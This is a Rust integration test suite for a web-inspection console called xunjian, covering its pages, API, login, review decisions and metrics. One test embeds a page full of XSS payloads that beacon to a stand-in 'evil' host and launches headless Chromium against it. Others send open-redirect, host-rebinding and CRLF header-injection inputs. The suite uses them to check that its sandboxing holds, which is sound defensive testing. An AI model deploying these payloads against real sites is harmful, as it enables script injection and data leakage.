//! The console and its interface, as a browser, a tool and an attacker see them.

#[path = "support/client.rs"]
mod client;
#[path = "support/server.rs"]
mod server;
mod support;

use std::io::Write as _;
use std::process::{Command, Stdio};
use std::time::Duration;

use client::Serving;
use serde_json::{Value, json};
use server::{Reply, serve};
use support::World;
use xunjian_city::CityOptions;

const SMALL: CityOptions = CityOptions { seed: 12, sites: 9, pages: 40, day: 0 };

#[test]
fn a_run_under_way_hides_nothing_of_the_night_before() {
    let world = World::inspected(SMALL);
    let verdicts = world.read_json("xunjian-data/report/verdicts.json");
    let verdicts = verdicts.as_array().expect("verdicts");
    let first = verdicts[0]["site"].as_str().expect("a site");
    let shown = |world: &World| {
        let config = std::fs::read(world.path("xunjian.toml")).expect("configuration");
        let console = Serving::start(world, "127.0.0.1", "");
        world.write("xunjian.toml", &config);
        let today = console.get("/").body;
        let counts: Vec<String> = today
            .split("<li")
            .filter_map(|part| part.split_once("<b>")?.1.split_once("</b>"))
            .map(|(count, _)| count.to_owned())
            .collect();
        let sites = console.get("/api/v1/sites").json()["sites"].clone();
        let result = |one: &Value| {
            (one["id"].clone(), one["run"].clone(), one["result"].clone(), one["tally"].clone())
        };
        let sites: Vec<_> = sites.as_array().expect("sites").iter().map(result).collect();
        let metrics = console.get("/metrics").body;
        let metrics: Vec<String> = metrics
            .lines()
            .filter(|line| line.starts_with("xunjian_site_result{"))
            .map(str::to_owned)
            .collect();
        let waiting = console.get("/review").body.matches("<a href=\"/review?site=").count();
        (counts, sites, metrics, waiting)
    };
    let before = shown(&world);
    assert!(before.0.len() > 5 && before.3 > 0, "{before:?}");
    assert_eq!((before.1.len(), before.2.len()), (verdicts.len(), verdicts.len() * 3));
    // Crawled and not yet judged, and of one site alone.
    assert!(matches!(world.run(&["crawl", "--site", first]).code, 0 | 3));
    assert_eq!(shown(&world), before);
}

#[test]
fn what_stands_in_posts_of_accounts_is_decided_in_the_console_too() {
    let world = World::with_city(SMALL);
    world.write("ledger.csv", "平台,账号名称,主办单位,状态\n微信,甲,办,正常\n".as_bytes());
    world.write("own.txt", "违禁词语\n".as_bytes());
    world.reconfigure("xunjian.toml", "[\"city/words.toml\"]", "[\"own.txt\"]");
    world.reconfigure("xunjian.toml", "ledger = \"city/media.csv\"", "ledger = \"ledger.csv\"");
    world.write("posts.csv", "平台,账号名称,日期,标题\n微信,甲,2026-06-29,文中有违禁词语\n".as_bytes());
    assert_eq!(world.run(&["media", "import", "ledger.csv"]).code, 0);
    assert_eq!(world.run(&["media", "import", "--posts", "posts.csv"]).code, 0);
    assert!(matches!(world.run(&["run"]).code, 0 | 3));
    let listed = world.run(&["findings", "list", "--site", "media", "--queue", "--json"]).json();
    let id = listed[0]["id"].as_str().expect("one that waits");
    let console = Serving::start(&world, "127.0.0.1", "");
    let queue = console.get("/review?site=media");
    assert!(
        queue.body.contains(&format!("/findings/{id}\"")) && queue.body.contains("政务新媒体"),
        "{}",
        queue.body
    );
    let page = console.get(&format!("/findings/{id}"));
    assert!(page.status == 200 && !page.body.contains("/sites/media"), "{}", page.body);
    let of_accounts = console.get("/api/v1/findings?site=media").json();
    assert!(of_accounts["findings"].as_array().expect("findings").iter().any(|one| one["id"] == id));
    let sent = format!("form_token={}&action=confirm&reason=属实", page.form_token());
    assert_eq!(console.post_form(&format!("/findings/{id}/act"), &[], &sent).status, 303);
    let queue = console.get("/review?site=media");
    assert!(!queue.body.contains(&format!("/findings/{id}\"")), "{}", queue.body);
}

#[test]
fn accounts_are_shown_with_why_they_fail() {
    let world = World::inspected(SMALL);
    let listed = world.run(&["media", "list", "--json"]).json();
    let listed = listed.as_array().expect("accounts");
    let of = |result: &str| listed.iter().filter(|one| one["result"] == result).count();
    let platform = listed[0]["account"]["platform"].as_str().expect("a platform");
    let console = Serving::start(&world, "127.0.0.1", "");
    let rows = |path: &str| {
        let page = console.get(path);
        assert_eq!(page.status, 200, "{path}");
        (page.body.matches("<th scope=\"row\">").count(), page.body)
    };
    let (all, page) = rows("/media");
    assert_eq!(all, listed.len());
    assert!(page.contains("aria-current=\"page\">新媒体"), "{page}");
    let (failing, page) = rows("/media?result=fail");
    assert!(failing == of("fail") && failing > 0, "{failing}");
    let is_silent = |one: &&Value| {
        let rows = one["indicators"].as_array().expect("rows");
        rows.iter().any(|row| row["indicator"] == "M2" && row["standing"] == "veto")
    };
    let silent = listed.iter().filter(is_silent).count();
    assert!(silent > 0);
    assert_eq!(page.matches("M2 ").count(), silent, "each says why: {page}");
    let query: String = platform.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let on = listed.iter().filter(|one| one["account"]["platform"] == platform).count();
    assert_eq!(rows(&format!("/media?platform={query}")).0, on);
    assert_eq!(rows("/media?from=80").0, listed.len() - 80);
    assert_eq!(rows("/media?result=nothing&from=18446744073709551615").0, 0);
    let overview = console.get("/").body;
    assert!(overview.contains(&format!("<a href=\"/media?result=fail\"><b>{failing}</b>")), "{overview}");
    let told = console.get("/api/v1/media").json()["accounts"].clone();
    let told = told.as_array().expect("accounts");
    let lines = |one: &&Value| one["lines"][0]["indicator"] == "M2" && one["lines"][0]["standing"] == "veto";
    assert_eq!(told.iter().filter(lines).count(), silent);
    let metrics = console.get("/metrics").body;
    assert!(
        metrics.contains(&format!("\nxunjian_media_accounts{{result=\"fail\"}} {failing}\n")),
        "{metrics}"
    );
}

#[test]
fn pages_show_what_was_found_and_people_decide_there() {
    let world = World::inspected(SMALL);
    let console = Serving::start(&world, "127.0.0.1", "");
    let findings = world.findings();
    let verdicts = world.read_json("xunjian-data/report/verdicts.json");

    let today = console.get("/");
    assert_eq!(today.status, 200);
    for verdict in verdicts.as_array().expect("verdicts") {
        let row = format!(
            "/sites/{}\">{}",
            verdict["site"].as_str().expect("a site"),
            verdict["name"].as_str().expect("a name")
        );
        assert!(today.body.contains(&row), "{row}");
    }
    let failing = verdicts.as_array().expect("verdicts").iter().filter(|one| one["result"] == "fail").count();
    assert!(today.body.contains(&format!("<li class=\"fail\"><b>{failing}</b>")), "{}", today.body);
    assert!(today.body.contains(&format!("<b>{}</b>问题", findings.len())));
    let policy = today.header("content-security-policy").expect("a policy");
    assert!(policy.contains("default-src 'none'") && !policy.contains("unsafe"), "{policy}");
    let english = console.ask("GET", "/", &[("cookie", "xunjian-language=en")], "");
    assert!(english.body.contains("<html lang=\"en\">") && english.body.contains(">Rectification<"));

    // Every finding has its page; the pages of a site hold them all, page by page.
    let waiting = findings.iter().find(|one| one["indicator"] == "V1" && one["severity"] == "serious");
    let waiting = waiting.expect("something waits")["id"].as_str().expect("an id");
    assert!(console.get("/review").body.contains(&format!("/findings/{waiting}\"")));
    let page = console.get(&format!("/findings/{waiting}"));
    assert!(page.body.contains("<iframe class=\"page\" sandbox src="), "{}", page.body);
    let typo =
        findings.iter().find(|one| one["kind"] == "typo").expect("a typo")["id"].as_str().expect("an id");
    let archived = console.get(&format!("/findings/{typo}/page"));
    let policy = archived.header("content-security-policy").expect("a policy");
    assert!(archived.status == 200 && policy.starts_with("sandbox; default-src 'none'"), "{policy}");
    assert!(archived.body.contains("<mark>"), "the hit is marked");

    let most = today.body.split("/sites/").nth(1).and_then(|rest| rest.split('"').next()).expect("a site");
    let (mut path, mut seen) = (format!("/sites/{most}?limit=3"), Vec::new());
    loop {
        let page = console.get(&path);
        assert_eq!(page.status, 200, "{path}: {}", page.body);
        let links = page.body.split("<a class=\"where\" href=\"/findings/").skip(1);
        seen.extend(links.filter_map(|rest| rest.split('"').next().map(str::to_owned)));
        let Some((_, rest)) = page.body.split_once("<a class=\"button\" href=\"") else { break };
        path = rest.split('"').next().expect("an address").replace("&amp;", "&");
    }
    let mut own: Vec<&str> = findings
        .iter()
        .filter(|one| one["site"] == most)
        .map(|one| one["id"].as_str().expect("an id"))
        .collect();
    own.sort_unstable();
    assert!(own.len() > 3);
    assert_eq!(seen, own);
    assert_eq!(console.get(&format!("/sites/{most}?limit=0")).status, 400);
    assert_eq!(console.get(&format!("/sites/{most}?kind=nothing")).status, 400);

    // A form of another page decides nothing; ours does; what somebody else did first is told.
    let act = format!("/findings/{waiting}/act");
    assert_eq!(console.post_form(&act, &[], "form_token=x&action=confirm&reason=a&revision=1").status, 403);
    assert_eq!(console.post_form(&act, &[], "action=confirm").status, 422);
    let token = page.form_token();
    let no_reason = console.post_form(&act, &[], &format!("form_token={token}&action=dismiss"));
    assert!(no_reason.status == 400 && no_reason.body.contains("排除问题需要理由"), "{}", no_reason.body);
    let done =
        console.post_form(&act, &[], &format!("form_token={token}&action=confirm&reason=ok&back=/review"));
    assert_eq!((done.status, done.header("location")), (303, Some("/review")));
    let stale = console.post_form(&act, &[], &format!("form_token={token}&action=notify&revision=0"));
    assert_eq!(stale.status, 409, "{}", stale.body);
    let away =
        console.post_form(&act, &[], &format!("form_token={token}&action=notify&back=//evil.example/"));
    assert_eq!(away.header("location"), Some(format!("/findings/{waiting}").as_str()));
    assert!(!console.get("/review").body.contains(&format!("/findings/{waiting}\"")), "it waits no more");
    assert!(console.get("/rectification").body.contains(&format!("/findings/{waiting}\"")));
    let history = console.get(&format!("/findings/{waiting}")).body;
    assert!(history.contains("<b>确认</b> local") && history.contains("<b>通知整改</b>"), "{history}");
    let audit = std::fs::read_to_string(world.path("xunjian-data/audit.jsonl")).expect("an audit log");
    let lines: Vec<Value> = audit.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
    let noted: Vec<&str> = lines.iter().map(|line| line["action"].as_str().expect("an action")).collect();
    assert_eq!(noted, ["dismiss", "confirm", "notify", "notify"], "{audit}");
    assert!(lines.iter().all(|line| line["about"] == waiting && line["who"] == "local"));

    // Whoever points a name of their own at us is not answered.
    let rebound = console.ask("GET", "/", &[("host", "evil.example")], "");
    assert_eq!(rebound.status, 421);
    assert_eq!(console.get("/findings/nothing").status, 404);
    assert_eq!(console.get("/sites/nothing").status, 404);
    assert_eq!(console.get("/nothing").status, 404);
}

#[test]
fn the_interface_pages_filters_and_decides() {
    let world = World::inspected(SMALL);
    let console = Serving::start(&world, "127.0.0.1", "");
    let findings = world.findings();
    // Page after page, each finding once.
    let mut ids: Vec<String> = Vec::new();
    let mut cursor = String::new();
    loop {
        let page = console.get(&format!("/api/v1/findings?limit=7&cursor={cursor}")).json();
        let rows = page["findings"].as_array().expect("findings");
        assert!(rows.len() <= 7);
        ids.extend(rows.iter().map(|one| one["id"].as_str().expect("an id").to_owned()));
        match page["next"].as_str() {
            Some(next) => cursor = next.to_owned(),
            None => break,
        }
    }
    let mut known: Vec<String> =
        findings.iter().map(|one| one["id"].as_str().expect("an id").to_owned()).collect();
    ids.sort();
    known.sort();
    assert_eq!(ids, known);
    let serious = console.get("/api/v1/findings?severity=serious&limit=500").json();
    let expected = findings.iter().filter(|one| one["severity"] == "serious").count();
    assert_eq!(serious["findings"].as_array().map(Vec::len), Some(expected));

    let wrong = |path: &str, told: &str| {
        let answer = console.get(path);
        assert_eq!(answer.status, 400, "{path}: {}", answer.body);
        assert_eq!(answer.header("content-type"), Some("application/problem+json"));
        assert!(
            answer.json()["detail"].as_str().is_some_and(|detail| detail.contains(told)),
            "{path}: {}",
            answer.body
        );
    };
    wrong(&format!("/api/v1/findings?severity=serious&cursor={cursor}"), "belongs to another query");
    wrong("/api/v1/findings?cursor=x", "not one of ours");
    wrong("/api/v1/findings?limit=0", "1 to 500");
    wrong("/api/v1/findings?colour=red", "colour");
    wrong("/api/v1/findings?kind=nothing", "kind");
    wrong("/api/v1/findings?site=nothing", "no site");

    let one = &known[0];
    let found = console.get(&format!("/api/v1/findings/{one}")).json();
    assert_eq!(found["id"], **one);
    let snapshot = found["evidence"]["snapshot"].as_str();
    if let Some(snapshot) = snapshot {
        let url = found["url"].as_str().expect("an address").replace('?', "%3F").replace('&', "%26");
        let page = console.get(&format!("/api/v1/snapshots?url={url}&snapshot={snapshot}")).json();
        assert_eq!(page["hash"].as_str(), snapshot.split('@').next());
    }
    let decision = json!({ "findings": known[..3], "action": "dismiss", "reason": "误报" });
    let done = console.post_json("/api/v1/decisions", &[], &decision);
    assert_eq!(done.json()["findings"].as_array().map(Vec::len), Some(3), "{}", done.body);
    let other = json!({ "findings": known[..3], "action": "confirm", "reason": "属实" });
    let again = console.post_json("/api/v1/decisions", &[], &other);
    assert_eq!(again.status, 409, "{}", again.body);
    let unknown = json!({ "findings": ["f00"], "action": "dismiss", "reason": "误报", "colour": 1 });
    assert_eq!(console.post_json("/api/v1/decisions", &[], &unknown).status, 400);
    let form =
        console.ask("POST", "/api/v1/decisions", &[("content-type", "text/plain")], &decision.to_string());
    assert_eq!(form.status, 415, "what any page can make a browser send is not taken");
    let large = console.post_json("/api/v1/decisions", &[], &json!({ "findings": ["x".repeat(2 << 20)] }));
    assert_eq!(large.status, 413, "{}", large.head);
    assert_eq!(console.ask("DELETE", "/api/v1/sites", &[], "").status, 405);

    assert_eq!(console.get("/api/v1/sites").json()["sites"].as_array().map(Vec::len), Some(9));
    // Every metric the dashboard and the alert rules ask for is there.
    let metrics = console.get("/metrics").body;
    let [dashboard, rules] = ["grafana/xunjian.json", "prometheus/xunjian.rules.yml"].map(|name| {
        std::fs::read_to_string(format!("{}/../../deploy/{name}", env!("CARGO_MANIFEST_DIR"))).expect(name)
    });
    serde_json::from_str::<Value>(&dashboard).expect("JSON");
    let words = format!("{dashboard} {rules}");
    let asked: std::collections::BTreeSet<&str> = words
        .split(|c: char| !c.is_ascii_lowercase() && c != '_')
        .filter(|word| word.starts_with("xunjian_"))
        .collect();
    assert!(asked.len() > 5);
    for name in asked {
        assert!(metrics.contains(&format!("\n# TYPE {name} gauge\n")), "{name}: {metrics}");
    }
    assert_eq!(metrics.matches("xunjian_site_result{").count(), 27);
    let verdicts = console.get("/api/v1/verdicts").json()["verdicts"].clone();
    let runs = verdicts.as_array().map(|all| all.iter().map(|one| one["run"].clone()).collect::<Vec<_>>());
    assert_eq!(runs, Some(vec![1.into(); 9]));
    assert_eq!(console.get("/api/v1/runs").json()["runs"][0]["number"], 1);
    let accounts = console.get("/api/v1/media").json()["accounts"].clone();
    assert_eq!(accounts.as_array().map(Vec::len), Some(90));
    let openapi = console.get("/api/v1/openapi.json").json();
    assert_eq!(openapi["openapi"], "3.1.0");
    for path in openapi["paths"].as_object().expect("paths").keys().filter(|path| !path.contains('{')) {
        if !["/events", "/decisions", "/rechecks", "/snapshots", "/assessments"].contains(&path.as_str()) {
            assert_eq!(console.get(&format!("/api/v1{path}")).status, 200, "{path}");
        }
    }
}

/// Half past two in Shanghai is still the day before in Greenwich.
#[test]
fn the_columns_of_a_site_are_shown_with_how_they_stand() {
    let world = World::inspected(SMALL);
    let listed = world.run(&["sites", "columns", "--json"]).json();
    let sites = listed["sites"].as_array().expect("sites");
    assert!(sites.iter().all(|site| site["columns"].is_array()));
    let one = sites[0]["id"].as_str().expect("an id");
    let only = world.run(&["sites", "columns", "--site", one, "--json"]).json();
    assert_eq!(only["sites"].as_array().map(Vec::len), Some(1));
    let unknown = world.english(&["sites", "columns", "--site", "nobody"]);
    assert_eq!(unknown.code, 2);
    assert!(unknown.stderr.contains("no site nobody in the register"), "{}", unknown.stderr);
    let console = Serving::start(&world, "127.0.0.1", "");
    let findings = world.findings();
    let mut seen = 0;
    for site in sites {
        let id = site["id"].as_str().expect("an id");
        let told = console.get(&format!("/api/v1/sites/{id}")).json();
        assert_eq!(
            (&told["columns"], &told["home_newest"]),
            (&site["columns"], &site["home_newest"]),
            "{id}"
        );
        let page = console.get(&format!("/sites/{id}")).body.replace("&#x2f;", "/");
        for column in site["columns"].as_array().expect("columns") {
            let url = column["url"].as_str().expect("an address");
            let known = url::form_urlencoded::byte_serialize(url.as_bytes()).collect::<String>();
            assert!(page.contains(&format!("/snapshots?url={known}\"")), "{id}: {url}");
            // A fault of a column is told by its state, and nothing else is.
            let faults = [("stale", "stale-column"), ("blank", "blank-column")];
            for (state, kind) in faults.into_iter().filter(|_| column["class"] != "statistics") {
                let found = findings.iter().any(|one| {
                    one["site"] == id
                        && one["kind"] == kind
                        && one["url"] == url
                        && one["detail"]["review"].is_null()
                });
                assert_eq!(column["state"] == state, found, "{column}");
                seen += usize::from(found);
            }
        }
    }
    assert!(seen > 0);
}

#[test]
fn days_are_those_of_the_zone_where_the_sites_are() {
    let world = World::with_city(CityOptions { seed: 5, sites: 2, pages: 12, day: 0 });
    let run: support::Ended =
        world.command_at("@2026-11-26 18:30:00", &["run"]).output().expect("runs").into();
    assert!(matches!(run.code, 0 | 3), "{}", run.stderr);
    let id = world.findings()[0]["id"].as_str().expect("an id").to_owned();
    let report = std::fs::read_to_string(world.path("xunjian-data/report/report.html")).expect("a report");
    assert!(report.contains("<span class=\"where\">2026-11-27</span>") && !report.contains("2026-11-26"));
    let console = Serving::start(&world, "127.0.0.1", "");
    let page = console.get(&format!("/findings/{id}")).body;
    assert!(page.contains("<dd>2026-11-27 — 2026-11-27</dd>"), "{page}");
    assert!(console.get("/runs").body.contains("2026-11-27 02:30"));
}

fn account(world: &World, args: &[&str], password: &str) -> support::Ended {
    let mut child = world
        .command(&[&["account"], args].concat())
        .env("XUNJIAN_LANG", "en")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("starts");
    child.stdin.take().expect("stdin").write_all(format!("{password}\n").as_bytes()).expect("written");
    child.wait_with_output().expect("runs").into()
}

#[test]
fn accounts_may_be_there_before_the_first_night() {
    let world = World::with_city(CityOptions { seed: 5, sites: 1, pages: 10, day: 0 });
    // Left by a kill while the folder was made.
    std::fs::create_dir(world.path("xunjian-data")).expect("folder");
    world.write("xunjian-data/format.part", b"xunj");
    assert_eq!(account(&world, &["add", "wang"], "a long password").code, 0);
    let run = world.english(&["run"]);
    assert!(matches!(run.code, 0 | 3), "{}", run.stderr);
    assert!(account(&world, &["list"], "").stdout.contains("wang"));
    // A folder of somebody else's is not made one of ours.
    std::fs::create_dir(world.path("other")).expect("folder");
    world.write("other/letters.txt", b"dear");
    let foreign = account(&world, &["add", "li", "--data", "other"], "a long password");
    assert!(foreign.code == 4 && foreign.stderr.contains("not a xunjian data folder"), "{}", foreign.stderr);
    assert_eq!(std::fs::read_dir(world.path("other")).expect("folder").count(), 1);
}

#[test]
fn beyond_loopback_everybody_says_who_they_are() {
    let world = World::inspected(SMALL);
    let config = std::fs::read_to_string(world.path("xunjian.toml")).expect("configuration");
    world.configure("[serve]\nlisten = \"0.0.0.0:0\"\n");
    let open = world.english(&["serve"]);
    assert!(open.code == 2 && open.stderr.contains("xunjian account add"), "{}", open.stderr);
    world.write("xunjian.toml", config.as_bytes());
    assert_eq!(account(&world, &["add", "wang", "--role", "reviewer"], "a long password").code, 0);
    assert_eq!(account(&world, &["add", "guest"], "another password").code, 0);
    let short = account(&world, &["add", "li"], "short");
    assert!(short.code == 2 && short.stderr.contains("at least 12"), "{}", short.stderr);
    assert!(account(&world, &["add", "wang"], "a long password").stderr.contains("already"));
    let token = |name: &str, scope: &str| {
        let made = world.run(&["account", "token", name, "--scope", scope, "--json"]);
        made.json()["token"].as_str().expect("a token").to_owned()
    };
    let (read, write, guest) = (token("wang", "read"), token("wang", "write"), token("guest", "write"));
    let console = Serving::start(&world, "0.0.0.0", "proxies = [\"127.0.0.1\"]\n");

    assert_eq!(console.get("/").header("location"), Some("/login"));
    assert_eq!(console.get("/review").status, 401);
    assert_eq!(console.get("/api/v1/sites").status, 401);
    let bearer = |token: &str| format!("Bearer {token}");
    let ask =
        |token: &str| console.ask("GET", "/api/v1/sites", &[("authorization", &bearer(token))], "").status;
    assert_eq!([ask(&read), ask(&guest), ask("xj_wrong")], [200, 200, 401]);
    let id = world.findings()[0]["id"].as_str().expect("an id").to_owned();
    let decision = json!({ "findings": [id], "action": "confirm", "reason": "属实" });
    let decide = |token: &str| {
        console.post_json("/api/v1/decisions", &[("authorization", &bearer(token))], &decision).status
    };
    assert_eq!([decide(&read), decide(&guest), decide(&write)], [403, 403, 200]);
    assert_eq!(console.post_json("/api/v1/decisions", &[], &decision).status, 401);

    let login = |name: &str, password: &str| {
        console.post_form("/login", &[], &format!("name={name}&password={}", password.replace(' ', "+")))
    };
    // Whoever came for a page gets it after logging in, and none of another host.
    let asked = console.get("/review?site=water");
    let form = asked.body.replace("&#x2f;", "/");
    assert!(form.contains("name=\"next\" value=\"/review?site=water\""), "{form}");
    for (next, place) in
        [("%2Freview%3Fsite%3Dwater", "/review?site=water"), ("%2F%2Fx.test", "/"), ("%2F%5Cx.test", "/")]
    {
        let form = format!("name=wang&password=a+long+password&next={next}");
        assert_eq!(console.post_form("/login", &[], &form).header("location"), Some(place));
    }
    let entered = login("wang", "a long password");
    assert_eq!(entered.status, 303, "{}", entered.body);
    let cookie = entered.header("set-cookie").expect("a cookie").to_owned();
    assert!(cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"), "{cookie}");
    let session = cookie.split(';').next().expect("a cookie").to_owned();
    let own = [("cookie", session.as_str())];
    let page = console.ask("GET", &format!("/findings/{id}"), &own, "");
    assert_eq!(page.status, 200);
    let act = format!("/findings/{id}/act");
    let sent = format!("form_token={}&action=assign&to=li", page.form_token());
    assert_eq!(console.post_form(&act, &own, &sent).status, 303);
    assert_eq!(console.post_form(&act, &[], &sent).status, 401, "a form without its session");
    // A session of a browser changes nothing through the interface: another page could use it.
    assert_eq!(console.post_json("/api/v1/decisions", &own, &decision).status, 401);
    let visitor = login("guest", "another password");
    let session = visitor
        .header("set-cookie")
        .and_then(|cookie| cookie.split(';').next())
        .expect("a cookie")
        .to_owned();
    let own = [("cookie", session.as_str())];
    let page = console.ask("GET", &format!("/findings/{id}"), &own, "");
    assert!(!page.body.contains("value=\"confirm\""), "who only looks gets no buttons");
    let sent = format!("form_token={}&action=dismiss&reason=x&revise=true", page.form_token());
    assert_eq!(console.post_form(&act, &own, &sent).status, 403);
    let left = console.post_form("/logout", &own, &format!("form_token={}", page.form_token()));
    assert_eq!(left.status, 303);
    assert_eq!(console.ask("GET", "/review", &own, "").status, 401);

    // Whoever guesses is stopped soon.
    let tried: Vec<u16> = (0..14).map(|_| login("wang", "not the password").status).collect();
    assert!(tried[0] == 401 && tried.ends_with(&[429]), "{tried:?}");
    let audit = std::fs::read_to_string(world.path("xunjian-data/audit.jsonl")).expect("an audit log");
    assert!(
        audit.contains("too many tries") && audit.contains("refused") && !audit.contains("not the password")
    );
    assert_eq!(account(&world, &["remove", "wang"], "").code, 0);
    assert_eq!(ask(&read), 401, "a removed account is out at once");
}

/// A page that does what it can to run, load and lead away. `{evil}` is where it wants to go.
const ATTACKS: &str = r##"<html><head><title>{{ 7*7 }}<img src=x onerror="new Image().src='{evil}/title'"></title>
<meta http-equiv="refresh" content="3;url={evil}/refresh"><base href="{evil}/base/">
<link rel="stylesheet" href="{evil}/style.css"><link rel=prefetch href="{evil}/prefetch"><link rel=dns-prefetch href="{evil}">
<style>@import url("{evil}/import.css"); body{background:url({evil}/background.png)} @font-face{font-family:x;src:url({evil}/font)} p{font-family:x}</style>
<script src="{evil}/script.js"></script><script>new Image().src='{evil}/inline'; document.title='PWNED'</script></head>
<body onload="new Image().src='{evil}/onload'" background="{evil}/body.png"><h1>关于帐号安全的通知 {{config}} ${7*7} <%= 7*7 %></h1>
<p>请勿出借登陆帐号。<img src="{evil}/image.png" onerror="new Image().src='{evil}/onerror'"><img src=x onerror=this.src='{evil}/onerror2'></p>
<svg onload="new Image().src='{evil}/svg'"><script>new Image().src='{evil}/svgscript'</script><image href="{evil}/svgimage"/><use href="{evil}/use.svg#a"/></svg>
<iframe src="{evil}/frame"></iframe><iframe srcdoc="<script>new Image().src='{evil}/srcdoc'</script>"></iframe>
<object data="{evil}/object"></object><embed src="{evil}/embed"><video src="{evil}/video" autoplay></video><audio src="{evil}/audio" autoplay></audio>
<form id=f action="{evil}/form"><input name=a></form><script>f.submit()</script><a id=l href="javascript:new Image().src='{evil}/link'">点击</a><a ping="{evil}/ping" href="/">回首页</a>
<math><mtext><style><img src=x onerror="new Image().src='{evil}/mutation'"></style></mtext></math>
<noscript><p title="</noscript><img src=x onerror=new/**/Image().src='{evil}/noscript'>"></noscript>
<details open ontoggle="new Image().src='{evil}/toggle'"></details><input autofocus onfocus="new Image().src='{evil}/focus'">
<template><script>new Image().src='{evil}/template'</script></template><</script><script>new Image().src='{evil}/odd'</script>
</body></html>"##;

fn browse(url: &str, folder: &std::path::Path) -> String {
    let output = Command::new("chromium")
        .args([
            "--headless", "--no-sandbox", "--disable-gpu", "--virtual-time-budget=4000", "--timeout=8000",
            "--dump-dom",
        ])
        .arg(format!("--user-data-dir={}", folder.display()))
        .arg(url)
        .stderr(Stdio::null())
        .output()
        .expect("chromium");
    String::from_utf8_lossy(&output.stdout).into_owned()
}

#[test]
fn an_archived_page_full_of_attacks_does_nothing() {
    let evil = serve(|_| Reply::Other("200 OK", "content-type: text/plain\r\n".to_owned(), String::new()));
    let page = ATTACKS.replace("{evil}", &format!("http://127.0.0.1:{}", evil.port));
    let own = page.clone();
    let site = serve(move |asked| match asked.path.as_str() {
        "/" => Reply::page("市水利局", "<a href=/art/1.html>关于帐号安全的通知</a>"),
        "/art/1.html" => Reply::Page(own.clone()),
        _ => Reply::missing(),
    });
    let port = site.port;
    let world = World::with_config(&format!(
        "data = \"xunjian-data\"\n[politeness]\nrequests_per_second = 0\naddress_requests_per_second = 0\n\
         [crawl]\nretry_pause_s = 0.1\nsecond_look_share = 0\n[render]\nbrowser = \"off\"\n[search]\nenabled = false\n\
         [network]\nallow_private = [\"127.0.0.0/8\"]\n[network.resolve]\n\"www.test\" = \"127.0.0.1:{port}\"\n\
         [[site]]\nid = \"www\"\nname = \"市水利局\"\nurl = \"http://www.test/\"\nkind = \"department\"\n"
    ));
    let run = world.run(&["run", "--json"]);
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
    let findings = world.findings();
    let typo = findings
        .iter()
        .find(|one| one["kind"] == "typo")
        .unwrap_or_else(|| panic!("{findings:#?} {}", run.stderr));
    let id = typo["id"].as_str().expect("an id");
    let console = Serving::start(&world, "127.0.0.1", "");
    std::thread::sleep(Duration::from_millis(500));
    let asked = || evil.asked().len();
    // The attacks work where nothing holds them: else this test could not fail.
    let before = asked();
    browse(&format!("http://127.0.0.1:{port}/art/1.html"), &world.path("browser"));
    assert!(
        asked() > before + 5,
        "{:?}",
        evil.asked().iter().map(|one| one.path.clone()).collect::<Vec<_>>()
    );

    let before = asked();
    let shown = browse(&format!("http://127.0.0.1:{}/findings/{id}", console.port), &world.path("browser"));
    assert!(shown.contains("存档页面") && !shown.contains("PWNED"), "{shown}");
    assert!(shown.contains("{{ 7*7 }}") && !shown.contains("<title>49"), "templates are not run: {shown}");
    let framed =
        browse(&format!("http://127.0.0.1:{}/findings/{id}/page", console.port), &world.path("browser"));
    assert!(framed.contains("<mark>登陆帐号</mark>") && !framed.contains("<title>PWNED"), "{framed}");
    let search = "/search?q=%E7%99%BB%E9%99%86%E5%B8%90%E5%8F%B7";
    let versions = "/snapshots?url=http%3A%2F%2Fwww.test%2Fart%2F1.html";
    for page in ["/", "/sites/www", "/review", search, versions, "/dictionaries"] {
        let shown = browse(&format!("http://127.0.0.1:{}{page}", console.port), &world.path("browser"));
        assert!(shown.contains("xunjian"), "{page}");
    }
    // The same page beside the report.
    let beside = std::fs::read_dir(world.path("xunjian-data/report/evidence")).expect("evidence");
    for file in beside {
        browse(&format!("file://{}", file.expect("a file").path().display()), &world.path("browser"));
    }
    let after: Vec<String> = evil.asked()[before..].iter().map(|one| one.path.clone()).collect();
    assert!(after.is_empty(), "{after:?}");
    // No line of an attacker becomes a line of an answer's head.
    let split = console.get("/findings/x%0d%0aset-cookie:%20a=b");
    assert!(split.header("set-cookie").is_none() && split.status == 404, "{}", split.head);
}

#[test]
fn a_night_under_way_is_shown_as_it_goes_on() {
    let site = serve(|asked| {
        std::thread::sleep(Duration::from_millis(60));
        match asked.path.strip_prefix("/p").and_then(|number| number.parse::<u32>().ok()) {
            Some(number) => Reply::page("页面", &format!("<p>第{number}页</p>")),
            None if asked.path == "/" => {
                let links = (0..150).map(|number| format!("<a href=/p{number}>第{number}页</a>"));
                Reply::page("首页", &links.collect::<String>())
            }
            None => Reply::missing(),
        }
    });
    let port = site.port;
    let world = World::with_config(&format!(
        "data = \"xunjian-data\"\n[politeness]\nrequests_per_second = 0\nconnections = 1\naddress_requests_per_second = 0\n\
         [crawl]\nretry_pause_s = 0.1\nsecond_look_share = 0\n[render]\nbrowser = \"off\"\n[search]\nenabled = false\n\
         [network]\nallow_private = [\"127.0.0.0/8\"]\n[network.resolve]\n\"www.test\" = \"127.0.0.1:{port}\"\n\
         [[site]]\nid = \"www\"\nname = \"市水利局\"\nurl = \"http://www.test/\"\nkind = \"department\"\n"
    ));
    // A night that was interrupted goes on once somebody serves.
    let mut run = world.start(&["run"]);
    std::thread::sleep(Duration::from_millis(1_500));
    run.kill().expect("killed");
    run.wait().expect("gone");
    let console = Serving::start(&world, "127.0.0.1", "");
    let done = |page: &str| -> Option<u32> {
        let rest = page.split_once("<b>正在抓取</b> 完成 ")?.1;
        rest.split_once(' ')?.0.parse().ok()
    };
    let mut seen = Vec::new();
    let begun = std::time::Instant::now();
    while begun.elapsed() < Duration::from_secs(60) {
        let page = console.get("/runs").body;
        seen.extend(done(&page));
        if !seen.is_empty() && done(&page).is_none() && page.contains("<td>完成</td>") {
            break;
        }
        std::thread::sleep(Duration::from_millis(300));
    }
    assert!(seen.len() > 3 && seen.is_sorted() && seen.first() < seen.last(), "{seen:?}");
    assert!(console.get("/runs").body.contains("<td>完成</td>"));
}
